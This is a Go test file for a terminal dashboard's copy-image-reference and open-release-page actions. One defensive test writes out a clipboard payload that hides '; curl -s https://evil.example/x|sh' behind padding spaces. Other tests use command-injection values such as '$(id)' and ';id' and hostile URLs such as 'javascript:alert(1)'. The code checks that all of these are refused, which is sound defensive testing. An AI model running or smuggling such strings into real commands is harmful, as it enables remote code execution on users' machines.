package ui

import (
	"fmt"
	"strings"
	"testing"

	"github.com/hanzoai/driftboard/model"
)

func TestCopyPutsTheImageOnTheClipboard(t *testing.T) {
	m, _ := newTestModel(t, nil, nil, Options{}, 100, 30)
	selectApp(t, m, "kms")
	_, cmd := m.Update(keyMsg("c"))
	if cmd == nil {
		t.Fatal("c: no command")
	}
	// tea.SetClipboard's message is the text itself (OSC 52 is written by
	// the program's renderer).
	if got := fmt.Sprint(quickMsgs(cmd)); got != "[ghcr.io/hanzoai/kms:v2.0.1]" {
		t.Errorf("clipboard gets %q, want ghcr.io/hanzoai/kms:v2.0.1", got)
	}
	if v := plainView(m); !strings.Contains(v, "copied ghcr.io/hanzoai/kms:v2.0.1") {
		t.Errorf("no visible confirmation:\n%s", v)
	}
}

func TestOpenBuildsTheGitHubReleasePage(t *testing.T) {
	var opened []string
	m, src := newTestModel(t, nil, nil, Options{OpenURL: func(u string) error { opened = append(opened, u); return nil }}, 100, 30)
	selectApp(t, m, "kms")
	_, cmd := m.Update(keyMsg("o"))
	if cmd == nil {
		t.Fatal("o: no command")
	}
	for _, msg := range quickMsgs(cmd) { // the Cmd opens the page; its answer confirms it
		m.Update(msg)
	}
	if len(opened) != 1 || opened[0] != "https://github.com/hanzoai/kms/releases/tag/v2.0.1" {
		t.Fatalf("opened %v, want the kms v2.0.1 release page", opened)
	}
	if v := plainView(m); !strings.Contains(v, "opened https://github.com/hanzoai/kms/releases/tag/v2.0.1") {
		t.Errorf("no confirmation:\n%s", v)
	}

	// A release URL that is not a github.com https page is never opened.
	for _, bad := range []string{"http://github.com/hanzoai/kms/releases/tag/v2.0.1", "https://evil.example/hanzoai/kms", "javascript:alert(1)", "https://github.com/../x"} {
		row := app{ns: "hanzo", name: "kms", declared: "v2.0.1", running: "v2.0.0", latest: "v2.0.1", ready: 2, updated: 1, assets: 2}.build()
		row.Release.URL = bad
		src.upsert(row)
		m.Update(snapshotMsg{src.Snapshot()})
		opened = nil
		press(m, "o")
		if len(opened) != 0 {
			t.Errorf("release URL %q: opened %v", bad, opened)
		}
		if v := plainView(m); !strings.Contains(v, "no GitHub release page known for kms") {
			t.Errorf("release URL %q: no explanation:\n%s", bad, v)
		}
	}
	// A tag with characters a path must escape stays one path segment.
	r := &model.AppView{DeclaredTag: "v1.0.0/../../x?y", Release: model.Release{URL: "https://github.com/hanzoai/kms/releases/tag/v1"}}
	if got := releasePage(r); got != "https://github.com/hanzoai/kms/releases/tag/v1.0.0%2F..%2F..%2Fx%3Fy" {
		t.Errorf("escaped page %q", got)
	}
}

// A tenant's repository padded with spaces hides a shell command behind the
// width of the notice: `c` copies only a reference that parses as an image
// reference, rebuilt from its parts, and says why anything else is refused.
func TestCopyRefusesWhatIsNotAnImageReference(t *testing.T) {
	m, src := newTestModel(t, nil, nil, Options{}, 100, 30)
	var copied []string
	m.clipboard = func(s string) { copied = append(copied, s) }
	payload := "ghcr.io/hanzoai/kms" + strings.Repeat(" ", 150) + "; curl -s https://evil.example/x|sh; echo ghcr.io/hanzoai/kms"
	for _, c := range []struct{ repo, tag, why string }{
		{payload, "v2.0.1", "' ' at character 20"},
		{"ghcr.io/hanzoai/kms;id", "v2.0.1", "';' at character 20"},
		{"ghcr.io/hanzoai/kms", "v2.0.1$(id)", "'$' at character 7"},
		{"ghcr.io/hanzoai/kms:v1", "v2.0.1", "repository"},
		{"ghcr.io/hanzoai/kms@sha256:" + strings.Repeat("a", 64), "v2.0.1", "repository"},
	} {
		row := app{ns: "hanzo", name: "kms", declared: "v2.0.1", running: "v2.0.0", latest: "v2.0.1", ready: 2, updated: 1, assets: 2}.build()
		row.Registry, row.DeclaredTag = c.repo, c.tag
		src.upsert(row)
		m.Update(snapshotMsg{src.Snapshot()})
		selectApp(t, m, "kms")
		copied = nil
		press(m, "c")
		if len(copied) != 0 {
			t.Errorf("%q:%q copied %q", c.repo, c.tag, copied)
		}
		if v := plainView(m); !strings.Contains(v, "not copied") || !strings.Contains(v, c.why) {
			t.Errorf("%q:%q: no reason naming %q:\n%s", c.repo, c.tag, c.why, v)
		}
	}
}

// The notice shows the whole copied reference, or says it was cut.
func TestCopyNoticeShowsTheWholeReference(t *testing.T) {
	m, src := newTestModel(t, nil, nil, Options{}, 100, 30)
	var copied []string
	m.clipboard = func(s string) { copied = append(copied, s) }
	long := "ghcr.io/hanzoai/" + strings.Repeat("k", 120)
	row := app{ns: "hanzo", name: "kms", declared: "v2.0.1", running: "v2.0.0", latest: "v2.0.1", ready: 2, updated: 1, assets: 2}.build()
	row.Registry = long
	src.upsert(row)
	m.Update(snapshotMsg{src.Snapshot()})
	selectApp(t, m, "kms")
	press(m, "c")
	if len(copied) != 1 || copied[0] != long+":v2.0.1" {
		t.Fatalf("copied %q", copied)
	}
	if v := plainView(m); !strings.Contains(v, "copied, cut to fit (143 characters): ghcr.io/hanzoai/kkk") {
		t.Errorf("a reference wider than the notice does not say it was cut:\n%s", v)
	}
}
